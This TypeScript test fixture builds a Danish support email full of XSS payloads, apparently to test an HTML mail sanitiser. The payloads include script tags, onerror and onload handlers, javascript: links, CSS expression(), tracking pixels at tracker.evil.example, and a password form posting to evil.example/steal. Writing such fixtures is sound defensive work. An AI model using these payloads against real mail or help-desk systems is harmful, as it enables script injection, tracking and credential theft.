import MailComposer from 'nodemailer/lib/mail-composer';

/**
 * A customer mail that tries everything: script, event handlers, javascript: links, <svg
 * onload>, CSS expression() and url(), a remote tracking image, an inline (cid:) logo and an
 * HTML attachment with a Danish name. Every payload would set window.__pwned if it ran.
 */
export const PNG_1PX = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
export const ATTACHMENT = Buffer.from('<html><script>window.__pwned = "attachment"</script>Tilbud</html>');

export const XSS_HTML = `
<p>Hej Servicedesk,</p>
<p>Vores <b>faktura-skabelon</b> viser forkert moms. Se logo: <img src="cid:logo@fjordby" alt="logo"></p>
<script>window.__pwned = "script"; alert("script")</script>
<img src="x" onerror="window.__pwned='onerror'; alert('onerror')">
<a href="javascript:window.__pwned='link';alert('link')">klik her</a>
<a href="https://microbizz.dk/hjaelp">Microbizz hjælp</a>
<svg onload="window.__pwned='svg'; alert('svg')"><circle r="5"/></svg>
<div style="width: expression(window.__pwned='css'); background-image: url(https://tracker.evil.example/bg.gif)">Stylet tekst</div>
<img src="https://tracker.evil.example/pixel.gif?u=mette" alt="pixel">
<iframe src="https://evil.example/frame" onload="alert('iframe')"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Log ind</button></form>
<p>Mvh Mette</p>`;

export async function buildXssMail(opts: { from?: string; messageId?: string } = {}): Promise<Buffer> {
  const composer = new MailComposer({
    from: opts.from ?? 'Mette Fjordby <mette@fjordby-el.dk>',
    to: 'support@microbizz.dk',
    subject: 'Forkert moms på fakturaen',
    messageId: `<${opts.messageId ?? `xss-${Date.now()}-${Math.random().toString(36).slice(2)}@fjordby-el.dk`}>`,
    text: 'Hej Servicedesk,\n\nVores faktura-skabelon viser forkert moms. Hvordan retter vi det?\n\nMvh Mette',
    html: XSS_HTML,
    attachments: [
      { filename: 'logo.png', content: PNG_1PX, contentType: 'image/png', cid: 'logo@fjordby' },
      { filename: 'Tilbud på æblekage "2026".html', content: ATTACHMENT, contentType: 'text/html' },
    ],
  });
  return new Promise((resolve, reject) => composer.compile().build((err, msg) => (err ? reject(err) : resolve(msg))));
}
